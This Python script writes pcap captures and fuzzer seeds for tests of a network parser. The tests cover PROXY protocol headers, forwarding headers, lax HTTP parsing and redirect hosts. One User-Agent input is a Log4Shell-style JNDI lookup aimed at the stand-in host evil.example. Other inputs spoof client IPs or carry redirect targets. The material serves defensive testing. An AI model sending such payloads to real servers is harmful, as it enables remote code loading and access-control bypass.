#!/usr/bin/env python3
"""Writes the captures of the cases about PROXY headers and about heads of HTTP, and the seeds of the
fuzzer for streams that are like them: usage: heads.py TESTDATA FUZZ

A case is a list of streams, each from its client's or its server's side, in segments as they are given.
"""
import pathlib
import struct
import sys

testdata, fuzz = map(pathlib.Path, sys.argv[1:])
CLIENT, SERVER = bytes([192, 0, 2, 10]), bytes([198, 51, 100, 53])
SIGNATURE = b"\r\n\r\n\0\r\nQUIT\n"


def field(kind, value):
    return struct.pack(">BH", kind, len(value)) + value


def second(fields=b"", source=bytes([203, 0, 113, 5])):
    contents = source + CLIENT + struct.pack(">HH", 5000, 443) + fields
    return SIGNATURE + b"\x21\x11" + struct.pack(">H", len(contents)) + contents


def frame(ports, is_client, flags, seq, data):
    (source, target) = (CLIENT, SERVER) if is_client else (SERVER, CLIENT)
    (from_port, to_port) = ports if is_client else ports[::-1]
    tcp = struct.pack(">HHIIBBHHH", from_port, to_port, seq, 0, 0x50, flags, 65535, 0, 0) + data
    ip = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(tcp), 1, 0, 64, 6, 0) + source + target
    return b"\2" * 6 + b"\4" * 6 + b"\x08\0" + ip + tcp


def capture(streams):
    out = struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1)
    number = 0
    for at, (port, is_client, segments) in enumerate(streams):
        seq = 1000
        for data in segments:
            packet = frame((40000 + at, port), is_client, 24, seq, data)
            out += struct.pack("<IIII", 1767225600 + number, 0, len(packet), len(packet)) + packet
            seq, number = seq + len(data), number + 1
    return out


def get(lines, target="/gate.php", host="www.example"):
    return f"GET {target} HTTP/1.1\r\nHost: {host}\r\n{lines}\r\n".encode()


def moved(location):
    return f"HTTP/1.1 302 Found\r\nLocation: {location}\r\nContent-Length: 0\r\n\r\n".encode()


FIRST = b"PROXY TCP4 203.0.113.5 192.0.2.10 5000 80\r\n"
SIXTH = b"PROXY TCP6 2001:db8:bad::5 2001:db8::9 5000 80\r\n"
CASES = {
    "proxy_protocol": [
        (80, True, [FIRST + get("", host="evil.example")]),
        (80, True, [SIXTH[:20], SIXTH[20:] + get("")]),
        (443, True, [second(field(2, b"evil.example"))[:30], second(field(2, b"evil.example"))[30:]]),
        (80, True, [FIRST + second(source=bytes([203, 0, 113, 6])) + get("")]),
        (25, True, [FIRST + b"EHLO evil.example\r\n"]),
        (80, True, [b"PROXY UNKNOWN\r\n" + get("", host="evil.example")]),
        (80, True, [get("X-Note: PROXY TCP4 203.0.113.5 192.0.2.10 5000 80\r\n")]),
    ],
    "http_forwarded": [
        (80, True, [get("Forwarded: for=203.0.113.5;proto=https\r\n")]),
        (80, True, [get('Forwarded: by=_x, for="[2001:db8:bad::5]:99"\r\n')]),
        (80, True, [get("X-Real-IP: 203.0.113.5\r\nX-Forwarded-For: 203.0.113.5, 192.0.2.1\r\n")]),
        (80, True, [get("True-Client-IP: 203.0.113.9:8443\r\n")]),
        (80, True, [get("X-Forwarded-Host: evil.example:80\r\nX-Request-Id: 203.0.113.5\r\n")]),
        (80, True, [get("Via: 1.1 evil.example (squid)\r\n")]),
    ],
    "http_header_text": [
        (80, True, [get("User-Agent: ${jndi:ldap://evil.example:1389/a}\r\n")]),
        (80, True, [get("Origin: http://evil.example\r\n", host="evil.example")]),
        (80, True, [get("From: bad.guy@evil.example\r\n")]),
        (80, False, [b"HTTP/1.1 200 OK\r\nSet-Cookie: a=b; Domain=.evil.example\r\n\r\n"]),
        (80, False, [b'HTTP/1.1 200 OK\r\nAlt-Svc: h3="evil.example:443"\r\n\r\n']),
        (80, True, [get("X-Note: evil.example\r\n")]),
    ],
    "http_lax": [
        (80, True, [b"\r\n", b"\r\n" + get("", host="evil.example")]),
        (80, True, [b"GET \t /gate.php  HTTP/1.1\nHost:\n evil.example\n\n"]),
        (80, True, [b"get /gate.php HTTP/1.1\r\nHost : evil.example\r\n\r\n"]),
        (80, True, [b"GET /gate.php RTSP/1.0\r\nHost: evil.example\r\n\r\n"]),
    ],
    "http_url_hosts": [
        (80, False, [moved("https://www.evil.example/x")]),
        (80, False, [moved("//evil.example/x")]),
        (80, False, [moved("/evil.example/x")]),
        (3128, True, [b"GET http://u:p@evil.example:8080/x HTTP/1.0\r\nAccept: */*\r\n\r\n"]),
        (3128, True, [get("", "http://evil.example/x", "evil.example")]),
        (3128, True, [get("", "http://203.0.113.9:8443/x")]),
        (80, True, [get("", "/away?to=http%3A%2F%2Fevil.example%2Fx")]),
    ],
}
for name, streams in CASES.items():
    (testdata / "cases" / name / "input.pcap").write_bytes(capture(streams))
# The first byte of a seed chooses a port.
for name, streams in CASES.items():
    for at, (port, _, segments) in enumerate(streams[:4]):
        first = b"\x02" if port == 443 else b"\x01"
        (fuzz / "corpus/streams" / f"{name}_{at}").write_bytes(first + b"".join(segments))
